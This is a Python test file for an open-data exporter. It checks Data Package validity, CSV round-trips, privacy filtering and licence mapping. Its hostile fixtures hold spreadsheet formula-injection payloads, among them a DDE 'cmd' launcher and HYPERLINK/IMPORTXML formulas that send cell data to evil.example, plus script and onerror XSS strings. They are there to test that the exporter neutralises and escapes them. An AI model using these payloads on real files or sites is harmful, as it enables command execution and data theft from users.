"""The open-data export: a valid Data Package, CSV that round-trips and cannot run as a formula,
nothing a build does not publish, and the measure values in long format."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import frictionless
import pytest
from jinja2 import ChoiceLoader, DictLoader, Environment, FileSystemLoader

from learnaloud.core.analysis import index_published
from learnaloud.core.export import (
    DATA_TEMPLATE,
    DataPlanner,
    DataView,
    inert,
    license_descriptor,
    license_of,
)
from learnaloud.core.load import load_content
from learnaloud.core.select import Published, select
from learnaloud.core.views import long_date
from tests.helpers import BASE_TREE, EXAMPLE, ROOT, write_tree, written

RESOURCES = ["records", "places", "themes", "tables", "table-entries", "measures", "measure-values"]


def published(root: Path, visibility: str = "public") -> Published:
    content, report = load_content(root)
    assert not report.has_errors, [d.format() for d in report.errors]
    return select(content, visibility, report)  # type: ignore[arg-type]


def export(root: Path, visibility: str = "public") -> dict[str, str]:
    chosen = published(root, visibility)
    return written(DataPlanner(chosen, index_published(chosen)).files())


def write_files(root: Path, files: dict[str, str]) -> Path:
    for path, text in files.items():
        target = root / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(text, encoding="utf-8")
    return root / "data" / "datapackage.json"


def assert_valid(package: Path) -> None:
    report = frictionless.validate(package)
    assert report.valid, report.flatten(["resourceName", "rowNumber", "fieldName", "type", "note"])


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def as_csv(value: Any) -> str:
    """What a JSON value becomes in the CSV file."""
    if value is None:
        return ""
    if isinstance(value, list):
        return inert(";".join(value))
    if isinstance(value, int | float):
        return repr(value)
    return inert(value)


@pytest.fixture(scope="module", params=["public", "network"])
def example(request: pytest.FixtureRequest) -> dict[str, str]:
    return export(EXAMPLE, request.param)


# -- the example network --------------------------------------------------------------------------


def test_every_file_is_under_data(example: dict[str, str]) -> None:
    expected = {f"data/{name}.{ext}" for name in RESOURCES for ext in ("csv", "json")}
    assert set(example) == expected | {"data/datapackage.json"}


def test_the_data_package_validates(example: dict[str, str], tmp_path: Path) -> None:
    assert_valid(write_files(tmp_path, example))


def test_the_package_describes_every_csv_file(example: dict[str, str]) -> None:
    package = json.loads(example["data/datapackage.json"])
    assert package["name"] == "localmotion-north"
    assert package["title"] == "LocalMotion North"
    if "do not republish" in package["description"]:  # the network's own build grants no licence
        assert "licenses" not in package
    else:
        assert package["licenses"] == [
            {
                "name": "CC-BY-4.0",
                "path": "https://creativecommons.org/licenses/by/4.0/",
                "title": "Creative Commons Attribution 4.0 International",
            }
        ]
    assert [r["name"] for r in package["resources"]] == RESOURCES
    for resource in package["resources"]:
        assert resource["path"] == f"{resource['name']}.csv"
        assert (resource["format"], resource["mediatype"], resource["encoding"]) == (
            "csv",
            "text/csv",
            "utf-8",
        )
        header = next(csv.reader(io.StringIO(example[f"data/{resource['path']}"])))
        assert header == [f["name"] for f in resource["schema"]["fields"]]
        assert all(f["description"] for f in resource["schema"]["fields"])
        assert resource["schema"]["primaryKey"]
    fields = {r["name"]: {f["name"]: f["type"] for f in r["schema"]["fields"]} for r in package["resources"]}
    assert fields["records"]["date"] == "date"
    assert fields["records"]["themes"] == "list"
    assert fields["places"]["records"] == "integer"
    assert fields["measure-values"]["value"] == "number"


def test_every_csv_round_trips_to_its_json(example: dict[str, str]) -> None:
    for name in RESOURCES:
        rows = json.loads(example[f"data/{name}.json"])
        read = csv_rows(example[f"data/{name}.csv"])
        assert len(read) == len(rows) > 0, name
        for from_csv, from_json in zip(read, rows, strict=True):
            assert list(from_csv) == list(from_json)
            assert from_csv == {key: as_csv(value) for key, value in from_json.items()}, name


def test_files_are_deterministic_and_sorted(example: dict[str, str]) -> None:
    assert export(EXAMPLE) == export(EXAMPLE)
    for text in example.values():
        assert text.endswith("\n") and not text.endswith("\n\n")
    records = json.loads(example["data/records.json"])
    assert [r["id"] for r in records] == sorted(r["id"] for r in records)
    values = json.loads(example["data/measure-values.json"])
    keys = [(v["place"], v["measure"], v["period"]) for v in values]
    assert keys == sorted(keys)


def test_records_carry_their_answers_links_and_urls() -> None:
    files = export(EXAMPLE)
    records = {r["id"]: r for r in json.loads(files["data/records.json"])}
    stall = records["north-quay/2024-02-10-market-stall-first-month"]
    assert stall["place"] == "north-quay"
    assert stall["date"] == "2024-02-10"
    assert stall["evidence"] == ["activity", "data"]
    assert stall["activities"] == ["after-action-review"]
    assert stall["loop"] == "single"
    assert "learning" in stall["questions"]
    assert stall["url"] == "places/north-quay/records/2024-02-10-market-stall-first-month/"
    assert stall["visibility"] == "public"
    assert all(r["visibility"] == "public" for r in records.values())
    places = {p["id"]: p for p in json.loads(files["data/places.json"])}
    assert sum(p["records"] for p in places.values()) == len(records)


# -- formula injection ----------------------------------------------------------------------------

HOSTILE_TREE = {
    **BASE_TREE,
    "network.yml": """
        name: Test Network
        license: CC-BY-SA-4.0
    """,
    "themes.yml": """
        - id: relational-approaches
          title: "-Relational approaches"
          description: "=1+1"
        - id: equalising-space
          title: "@Equalising space"
    """,
    "measures.yml": """
        - id: participants
          title: "+People taking part"
          unit: people
        - id: balance
          title: Balance
          unit: pounds
    """,
    "places/north-quay/place.yml": """
        name: "+North Quay"
        region: "=cmd|' /C calc'!A0"
        summary: "\\tTabbed summary"
    """,
    "places/north-quay/measures.yml": """
        balance:
          2025-01: -3
          2025-02: -2.5
    """,
    "places/north-quay/records/2025-03-12-market-stall.md": """
        ---
        title: '=HYPERLINK("http://evil.example/?"&A1,"Click")'
        date: 2025-03-12
        summary: "\\r=SUM(A1:A9)"
        evidence: [story]
        themes: [relational-approaches]
        ---

        Body.
    """,
    "tables/2025-06-hostile.yml": """
        title: "-2+3"
        date: 2025-06-01
        scope: national
        question: "@SUM(1,2)"
        hypotheses:
          - text: "=IMPORTXML(CONCAT(\\"http://evil.example/?v=\\", A1), \\"//a\\")"
            status: open
    """,
}


def cell(files: dict[str, str], name: str, key: str, value: str, column: str) -> str:
    rows = [row for row in csv_rows(files[f"data/{name}.csv"]) if row[key] == value]
    assert len(rows) == 1, (name, value)
    return rows[0][column]


def test_text_that_could_run_as_a_formula_is_made_inert(tmp_path: Path) -> None:
    files = export(write_tree(tmp_path / "content", HOSTILE_TREE))
    record = "north-quay/2025-03-12-market-stall"
    assert cell(files, "records", "id", record, "title") == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert cell(files, "records", "id", record, "summary") == "'\r=SUM(A1:A9)"
    assert cell(files, "places", "id", "north-quay", "name") == "'+North Quay"
    assert cell(files, "places", "id", "north-quay", "region") == "'=cmd|' /C calc'!A0"
    assert cell(files, "places", "id", "north-quay", "summary") == "'\tTabbed summary"
    assert cell(files, "themes", "id", "relational-approaches", "title") == "'-Relational approaches"
    assert cell(files, "themes", "id", "relational-approaches", "description") == "'=1+1"
    assert cell(files, "themes", "id", "equalising-space", "title") == "'@Equalising space"
    assert cell(files, "measures", "id", "participants", "title") == "'+People taking part"
    assert cell(files, "tables", "id", "2025-06-hostile", "title") == "'-2+3"
    assert cell(files, "tables", "id", "2025-06-hostile", "question") == "'@SUM(1,2)"
    assert cell(files, "table-entries", "table", "2025-06-hostile", "text").startswith("'=IMPORTXML(")
    # Every text cell of every file: none starts a formula.
    for name in RESOURCES:
        for row in csv_rows(files[f"data/{name}.csv"]):
            for column, text in row.items():
                if column != "value":
                    assert not text.startswith(("=", "+", "-", "@", "\t", "\r")), (name, column, text)


def test_json_keeps_the_text_and_numbers_stay_numbers(tmp_path: Path) -> None:
    files = export(write_tree(tmp_path / "content", HOSTILE_TREE))
    records = json.loads(files["data/records.json"])
    assert records[1]["title"] == '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    # A negative value is a number, not text: written bare, never prefixed.
    assert '\n"north-quay","balance","2025-01",-3,"public"\n' in files["data/measure-values.csv"]
    assert '\n"north-quay","balance","2025-02",-2.5,"public"\n' in files["data/measure-values.csv"]
    values = json.loads(files["data/measure-values.json"])
    assert [v["value"] for v in values] == [-3, -2.5]
    assert_valid(write_files(tmp_path / "site", files))


def test_csv_keeps_a_carriage_return_inside_its_cell(tmp_path: Path) -> None:
    files = export(write_tree(tmp_path / "content", HOSTILE_TREE))
    records = csv_rows(files["data/records.csv"])
    assert len(records) == 2
    assert records[1]["summary"] == "'\r=SUM(A1:A9)"


# -- privacy --------------------------------------------------------------------------------------

PRIVATE_CANARIES = [
    "CANARY-PRIVATE-NETWORK",
    "CANARY-PRIVATE-PLACE",
    "CANARY-PRIVATE-NETPLACE",
    "CANARY-PRIVATE-RECORD",
    "CANARY-PRIVATE-MEASURES",
    "CANARY-PRIVATE-TABLE",
    "CANARY-PRIVATE-THEME",
]
# What only a network build publishes: ids, names, titles and the figures of a network-only place.
NETWORK_ONLY = [
    "secret-place",
    "CANARY-NET-PLACE-NAME",
    "2025-05-01-net-record",
    "CANARY-NET-RECORD-TITLE",
    "2025-07-secret-table",
    "CANARY-NET-TABLE",
    "2031-01",
    "98765",
]

PRIVACY_TREE = {
    **BASE_TREE,
    "network.yml": """
        name: Test Network
        private:
          funder: CANARY-PRIVATE-NETWORK
    """,
    "themes.yml": """
        - id: relational-approaches
          title: Relational approaches
          private:
            note: CANARY-PRIVATE-THEME
        - id: equalising-space
          title: Equalising space
    """,
    "places/north-quay/place.yml": """
        name: North Quay
        private:
          contact: CANARY-PRIVATE-PLACE
    """,
    "places/north-quay/measures.yml": """
        participants:
          2025-01: 34
        private:
          source: CANARY-PRIVATE-MEASURES
    """,
    "places/north-quay/records/2025-05-01-net-record.md": """
        ---
        title: CANARY-NET-RECORD-TITLE
        date: 2025-05-01
        evidence: [setback]
        themes: [relational-approaches]
        visibility: network
        private:
          notes: CANARY-PRIVATE-RECORD
        ---

        Network only.
    """,
    "places/north-quay/records/2025-06-01-public-after.md": """
        ---
        title: A public record that learned from a network one
        date: 2025-06-01
        evidence: [reflection]
        learned_from: [north-quay/2025-05-01-net-record, hillfoot/2025-04-01-kitchen-tables]
        private:
          notes: CANARY-PRIVATE-RECORD
        ---

        Public text.
    """,
    "places/secret-place/place.yml": """
        name: CANARY-NET-PLACE-NAME
        visibility: network
        private:
          contact: CANARY-PRIVATE-NETPLACE
    """,
    "places/secret-place/records/2025-02-02-inside.md": """
        ---
        title: A record in a network-only place
        date: 2025-02-02
        evidence: [story]
        themes: [equalising-space]
        visibility: public
        ---

        Inside.
    """,
    "places/secret-place/measures.yml": """
        participants:
          2031-01: 98765
    """,
    "tables/2025-07-secret-table.yml": """
        title: CANARY-NET-TABLE
        date: 2025-07-01
        scope: national
        visibility: network
        private:
          facilitator: CANARY-PRIVATE-TABLE
    """,
    "tables/2025-08-open.yml": """
        title: An open table
        date: 2025-08-01
        scope: across-places
        places: [north-quay, secret-place]
        follows: 2025-07-secret-table
        ground_truth:
          - text: See the [hidden record](../places/north-quay/records/2025-05-01-net-record.md).
            evidence: [north-quay/2025-05-01-net-record, hillfoot/2025-04-01-kitchen-tables]
    """,
}


@pytest.fixture(scope="module")
def privacy_root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_tree(tmp_path_factory.mktemp("privacy") / "content", PRIVACY_TREE)


def everything(files: dict[str, str]) -> str:
    return "\n".join(files.values())


@pytest.mark.parametrize("canary", NETWORK_ONLY + PRIVATE_CANARIES)
def test_a_public_export_holds_nothing_it_does_not_publish(privacy_root: Path, canary: str) -> None:
    found = [path for path, text in export(privacy_root).items() if canary in text]
    assert found == []


@pytest.mark.parametrize("canary", PRIVATE_CANARIES)
def test_a_network_export_never_holds_private_fields(privacy_root: Path, canary: str) -> None:
    assert canary not in everything(export(privacy_root, "network"))


@pytest.mark.parametrize("item", NETWORK_ONLY)
def test_a_network_export_holds_network_items(privacy_root: Path, item: str) -> None:
    assert item in everything(export(privacy_root, "network"))


def test_a_public_export_counts_and_links_only_published_items(privacy_root: Path, tmp_path: Path) -> None:
    files = export(privacy_root)
    records = {r["id"]: r for r in json.loads(files["data/records.json"])}
    assert sorted(records) == [
        "hillfoot/2025-04-01-kitchen-tables",
        "north-quay/2025-03-12-market-stall",
        "north-quay/2025-06-01-public-after",
    ]
    assert records["north-quay/2025-06-01-public-after"]["learned_from"] == [
        "hillfoot/2025-04-01-kitchen-tables"
    ]
    themes = {t["id"]: t["records"] for t in json.loads(files["data/themes.json"])}
    assert themes == {"equalising-space": 1, "relational-approaches": 2}
    (table,) = json.loads(files["data/tables.json"])
    assert (table["places"], table["follows"]) == (["north-quay"], None)
    (entry,) = json.loads(files["data/table-entries.json"])
    assert entry["text"] == "See the hidden record."
    assert entry["evidence"] == ["hillfoot/2025-04-01-kitchen-tables"]
    assert_valid(write_files(tmp_path, files))


def test_a_network_export_marks_what_is_network_only(privacy_root: Path, tmp_path: Path) -> None:
    files = export(privacy_root, "network")
    records = {r["id"]: r["visibility"] for r in json.loads(files["data/records.json"])}
    assert records["north-quay/2025-05-01-net-record"] == "network"
    assert records["secret-place/2025-02-02-inside"] == "network"  # its place is network-only
    assert records["north-quay/2025-06-01-public-after"] == "public"
    places = {p["id"]: p["visibility"] for p in json.loads(files["data/places.json"])}
    assert places == {"hillfoot": "public", "north-quay": "public", "secret-place": "network"}
    tables = {t["id"]: t["visibility"] for t in json.loads(files["data/tables.json"])}
    assert tables == {"2025-07-secret-table": "network", "2025-08-open": "public"}
    assert "do not republish" in json.loads(files["data/datapackage.json"])["description"]
    assert_valid(write_files(tmp_path, files))


# -- measure values -------------------------------------------------------------------------------


def test_measure_values_are_long_format_sorted_and_only_of_published_places(tmp_path: Path) -> None:
    tree = {
        **BASE_TREE,
        "measures.yml": """
            - id: participants
              title: People taking part
              unit: people
            - id: confidence
              title: Confidence
              unit: points
              aggregate: mean
        """,
        "places/north-quay/measures.yml": """
            participants:
              2025-02: 41
              2025-01: 34
            confidence:
              2025-Q1: 5.5
        """,
        "places/hillfoot/measures.yml": """
            participants:
              2024: 400
        """,
        "places/hidden/place.yml": """
            name: Hidden
            visibility: network
        """,
        "places/hidden/measures.yml": """
            participants:
              2025-01: 12
        """,
    }
    root = write_tree(tmp_path / "content", tree)
    public = export(root)
    assert public["data/measure-values.csv"] == (
        '"place","measure","period","value","visibility"\n'
        '"hillfoot","participants","2024",400,"public"\n'
        '"north-quay","confidence","2025-Q1",5.5,"public"\n'
        '"north-quay","participants","2025-01",34,"public"\n'
        '"north-quay","participants","2025-02",41,"public"\n'
    )
    assert json.loads(public["data/measure-values.json"]) == [
        {
            "place": "hillfoot",
            "measure": "participants",
            "period": "2024",
            "value": 400,
            "visibility": "public",
        },
        {
            "place": "north-quay",
            "measure": "confidence",
            "period": "2025-Q1",
            "value": 5.5,
            "visibility": "public",
        },
        {
            "place": "north-quay",
            "measure": "participants",
            "period": "2025-01",
            "value": 34,
            "visibility": "public",
        },
        {
            "place": "north-quay",
            "measure": "participants",
            "period": "2025-02",
            "value": 41,
            "visibility": "public",
        },
    ]
    measures = json.loads(public["data/measures.json"])
    assert [(m["id"], m["aggregate"]) for m in measures] == [("confidence", "mean"), ("participants", "sum")]
    network = json.loads(export(root, "network")["data/measure-values.json"])
    assert {
        "place": "hidden",
        "measure": "participants",
        "period": "2025-01",
        "value": 12,
        "visibility": "network",
    } in network
    assert_valid(write_files(tmp_path / "site", public))


# -- licences -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        (
            "CC-BY-4.0",
            {
                "name": "CC-BY-4.0",
                "path": "https://creativecommons.org/licenses/by/4.0/",
                "title": "Creative Commons Attribution 4.0 International",
            },
        ),
        (
            "CC-BY-NC-SA-4.0",
            {
                "name": "CC-BY-NC-SA-4.0",
                "path": "https://creativecommons.org/licenses/by-nc-sa/4.0/",
                "title": "Creative Commons Attribution-NonCommercial-ShareAlike 4.0 International",
            },
        ),
        (
            "CC0-1.0",
            {
                "name": "CC0-1.0",
                "path": "https://creativecommons.org/publicdomain/zero/1.0/",
                "title": "Creative Commons Zero v1.0 Universal",
            },
        ),
        ("MIT", {"name": "MIT", "title": "MIT"}),
        (
            "All rights reserved",
            {"name": "LicenseRef-all-rights-reserved", "title": "All rights reserved"},
        ),
    ],
)
def test_licences_map_to_data_package_licences(name: str, expected: dict[str, str]) -> None:
    assert license_descriptor(license_of(name)) == expected


def test_no_licence_means_no_licences_and_any_licence_validates(tmp_path: Path) -> None:
    root = write_tree(tmp_path / "content", BASE_TREE)
    assert "licenses" not in json.loads(export(root)["data/datapackage.json"])
    write_tree(root, {"network.yml": "name: Test Network\nlicense: All rights reserved (ask us)\n"})
    files = export(root)
    (license,) = json.loads(files["data/datapackage.json"])["licenses"]
    assert license == {
        "name": "LicenseRef-all-rights-reserved-ask-us",
        "title": "All rights reserved (ask us)",
    }
    assert_valid(write_files(tmp_path / "site", files))


# -- the Open data page ---------------------------------------------------------------------------


def render_page(view: DataView) -> str:
    """The page's template with Material's main.html stubbed: only our markup is under test."""
    loader = ChoiceLoader(
        [
            DictLoader({"main.html": "{% block content %}{% endblock %}", "partials/actions.html": ""}),
            FileSystemLoader(ROOT / "plugins" / "learnaloud" / "theme"),
        ]
    )
    env = Environment(loader=loader)  # as MkDocs' own: no autoescape
    env.filters["la_date"] = long_date
    return env.get_template(DATA_TEMPLATE).render(la=view, base_url="..", page=None, config={})


def test_the_data_page_lists_every_file_with_its_fields(tmp_path: Path) -> None:
    chosen = published(EXAMPLE)
    planner = DataPlanner(chosen, index_published(chosen))
    files, view = written(planner.files()), planner.view
    page = view()
    assert [f.name for f in page.files] == RESOURCES
    records = page.files[0]
    assert (records.csv, records.json) == ("data/records.csv", "data/records.json")
    assert records.rows == len(json.loads(files["data/records.json"]))
    assert "learned_from" in [f.name for f in records.fields]
    assert page.license is not None and page.license.url == "https://creativecommons.org/licenses/by/4.0/"
    html = render_page(page)
    assert 'href="../data/records.csv"' in html and 'href="../data/datapackage.json"' in html
    assert "Only what the network publishes openly" in html
    assert "Creative Commons Attribution 4.0 International" in html


def test_the_data_page_escapes_contributor_text(tmp_path: Path) -> None:
    tree = {
        **BASE_TREE,
        "network.yml": """
            name: "<script>alert(1)</script> Network"
            license: "<img src=x onerror=alert(2)>"
        """,
    }
    chosen = published(write_tree(tmp_path / "content", tree))
    html = render_page(DataPlanner(chosen, index_published(chosen)).view())
    assert "<script>" not in html and "<img" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt; Network" in html
